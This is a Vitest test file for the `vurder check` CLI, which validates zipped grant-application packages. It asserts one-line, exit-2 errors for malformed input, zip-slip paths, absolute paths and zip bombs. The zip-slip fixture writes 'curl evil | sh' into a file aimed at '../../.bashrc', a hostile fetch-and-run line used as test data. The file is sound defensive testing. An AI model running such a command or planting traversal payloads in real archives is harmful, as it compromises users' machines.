// Bad input to `vurder check`: exit 2, nothing on stdout, and exactly one stderr line that names the file and
// the problem — never a stack trace.
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCheck } from '../../electron/cli/commands/check';
import type { PackageLimits } from '../../electron/services/package-source/index';
import { makeZip, patchBytes } from '../fixtures/zip-tools';
import type { CliRun } from './cli-harness';
import { fixturesRoot, runInProcess, spawnVurder } from './cli-harness';

const source = join(fixturesRoot, 'so4-gloppen-eligible');
let tmp: string;
let manifest: Record<string, unknown>;
let pdf: Buffer;

beforeAll(async () => {
  tmp = await mkdtemp(join(tmpdir(), 'vurder-check-bad-'));
  manifest = JSON.parse(await readFile(join(source, 'soknad.json'), 'utf8')) as Record<string, unknown>;
  pdf = await readFile(join(source, 'vedlegg', 'prosjektbeskrivelse.pdf'));
});
afterAll(async () => {
  await rm(tmp, { recursive: true, force: true });
});

/** A zip of the Gloppen fixture with its soknad.json text replaced and optional extra entries. */
function packageZip(soknad: string, extra: { name: string; content: Buffer | string }[] = []): Promise<Buffer> {
  return makeZip([
    { name: 'soknad.json', content: soknad },
    { name: 'vedlegg/prosjektbeskrivelse.pdf', content: pdf },
    { name: 'vedlegg/budsjett.pdf', content: pdf },
    ...extra,
  ]);
}

function changed(change: (data: Record<string, unknown>) => void): string {
  const copy = structuredClone(manifest);
  change(copy);
  return JSON.stringify(copy, null, 2);
}

interface BadCase {
  name: string;
  /** File name inside tmp; a name without ".zip" is made a folder. */
  file: string;
  build: () => Promise<Buffer | string | null>;
  /** Expected text after "vurder check: <label>" (the label is file, or file/soknad.json). */
  line: string;
  lang?: 'nb' | 'en';
  limits?: Partial<PackageLimits>;
}

const cases: BadCase[] = [
  {
    name: 'unreadable zip',
    file: 'ødelagt.zip',
    build: () => Promise.resolve(Buffer.from('PK\u0003\u0004 dette er ikke en zip')),
    line: 'ødelagt.zip: er avkortet eller ikke en zip-fil (fant ikke zip-katalogen på slutten)',
  },
  {
    name: 'no soknad.json',
    file: 'uten-manifest.zip',
    build: () => makeZip([{ name: 'vedlegg/prosjektbeskrivelse.pdf', content: pdf }]),
    line: 'uten-manifest.zip: has no soknad.json at the root of the package',
    lang: 'en',
  },
  {
    name: 'invalid JSON',
    file: 'ugyldig-json.zip',
    build: () => packageZip('{\n  "formatVersion": 1,\n  "schemeId": "imdi-kommunale-integreringstiltak-2021"\n  "applicationId": "X"\n}'),
    line: 'ugyldig-json.zip/soknad.json: ugyldig JSON på linje 4, kolonne 3 ved «"application»',
  },
  {
    name: 'wrong types',
    file: 'feil-typer.zip',
    build: () => packageZip(changed((d) => ((d.participants as Record<string, unknown>).count = 'femten'))),
    line: 'feil-typer.zip/soknad.json: field problems (1): Number of participants must be a number, not a string',
    lang: 'en',
  },
  {
    name: 'unknown focus area',
    file: 'satsingsomrade-7.zip',
    build: () => packageZip(changed((d) => (d.focusArea = 7))),
    line: 'satsingsomrade-7.zip/soknad.json: 1 feil i feltene: Satsingsområde 7: må være et satsingsområde 1–6',
  },
  {
    name: 'date without offset',
    file: 'uten-tidssone.zip',
    build: () => packageZip(changed((d) => (d.submittedAt = '2021-02-08T14:32:10'))),
    line: 'uten-tidssone.zip/soknad.json: field problems (1): Submitted "2021-02-08T14:32:10" has no offset; write e.g. 2021-02-08T14:32:10+01:00 or 2021-02-08T14:32:10Z',
    lang: 'en',
  },
  {
    name: 'unsupported formatVersion',
    file: 'versjon-2.zip',
    build: () => packageZip(changed((d) => (d.formatVersion = 2))),
    line: 'versjon-2.zip/soknad.json: formatVersion 2 støttes ikke; Vurder leser formatVersion 1',
  },
  {
    name: 'unknown scheme',
    file: 'ukjent-ordning.zip',
    build: () => packageZip(changed((d) => (d.schemeId = 'imdi-2031'))),
    line: 'ukjent-ordning.zip/soknad.json: the scheme "imdi-2031" is not built into Vurder',
    lang: 'en',
  },
  {
    name: '".." entry',
    file: 'zip-slip.zip',
    build: async () => patchBytes(await packageZip(JSON.stringify(manifest), [{ name: 'xx/xx/.bashrc', content: 'curl evil | sh' }]), 'xx/xx/', '../../'),
    line: 'zip-slip.zip: filstien «../../.bashrc» peker ut av pakken (..)',
  },
  {
    name: 'absolute path',
    file: 'absolutt.zip',
    build: async () => patchBytes(await packageZip(JSON.stringify(manifest), [{ name: '_tmp/x', content: 'x' }]), '_tmp/', '/tmp/'),
    line: 'absolutt.zip: the path "/tmp/x" is absolute; only relative paths are allowed',
    lang: 'en',
  },
  {
    name: 'zip bomb under the default limits',
    file: 'bombe.zip',
    build: () => packageZip(JSON.stringify(manifest), [{ name: 'vedlegg/nuller.bin', content: Buffer.alloc(16 * 1024 * 1024) }]),
    line: 'bombe.zip: «vedlegg/nuller.bin» pakker ut mer enn 100 ganger sin komprimerte størrelse (zip-bombe?)',
  },
  {
    name: 'zip over the size limits',
    file: 'for-stor.zip',
    build: () => packageZip(JSON.stringify(manifest), [{ name: 'vedlegg/stor.bin', content: Buffer.alloc(64 * 1024, 1) }]),
    limits: { maxTotalBytes: 32 * 1024 },
    line: 'for-stor.zip: the package unpacks to more than 32768 bytes',
    lang: 'en',
  },
  {
    name: 'folder without soknad.json',
    file: 'tom-mappe',
    build: () => Promise.resolve(null),
    line: 'tom-mappe: mangler soknad.json i roten av pakken',
  },
  {
    name: 'path that does not exist',
    file: 'finnes-ikke.zip',
    build: () => Promise.resolve('skip'),
    line: 'finnes-ikke.zip: does not exist',
    lang: 'en',
  },
];

function expectOneLine(run: CliRun, line: string): void {
  expect(run.code).toBe(2);
  expect(run.stdout).toBe('');
  expect(run.stderr).toBe(`vurder check: ${line}\n`);
  expect(run.stderr).not.toMatch(/\n\s+at /);
}

describe('vurder check refuses bad input with exit 2 and one line', () => {
  it.each(cases)('$name', async ({ file, build, line, lang, limits }) => {
    const content = await build();
    if (content === null) await mkdir(join(tmp, file));
    else if (content !== 'skip') await writeFile(join(tmp, file), content);
    let stdout = '';
    let stderr = '';
    const io = { stdout: (t: string) => void (stdout += t), stderr: (t: string) => void (stderr += t), env: {}, cwd: tmp };
    const code = await runCheck([file, ...(lang === undefined ? [] : ['--lang', lang])], io, limits === undefined ? {} : { limits });
    expectOneLine({ code, stdout, stderr }, line);
  });

  it('explains usage mistakes in one line', async () => {
    expectOneLine(await runInProcess(['check']), 'feil antall argumenter; bruk: vurder check <pakke|package>... [--json] [--lang nb|en] [--max-entries N] [--max-total-mb N] [--max-file-mb N] [--max-ratio N]');
    expectOneLine(await runInProcess(['check', 'a.zip', '--verbose', '--lang=en']), 'unknown option --verbose');
    expectOneLine(await runInProcess(['check', 'a.zip', '--lang', 'de']), '--lang kan ikke være «de»; bruk nb | en');
    expectOneLine(await runInProcess(['check', 'a.zip', '--lang']), '--lang trenger en verdi');
  });

  it('the real binary prints one line and no stack for a truncated zip', async () => {
    const zip = join(tmp, 'avkortet.zip');
    const whole = await packageZip(JSON.stringify(manifest));
    await writeFile(zip, whole.subarray(0, whole.length - 40));
    expectOneLine(await spawnVurder(['check', 'avkortet.zip', '--json'], tmp), 'avkortet.zip: er avkortet eller ikke en zip-fil (fant ikke zip-katalogen på slutten)');
  });
});
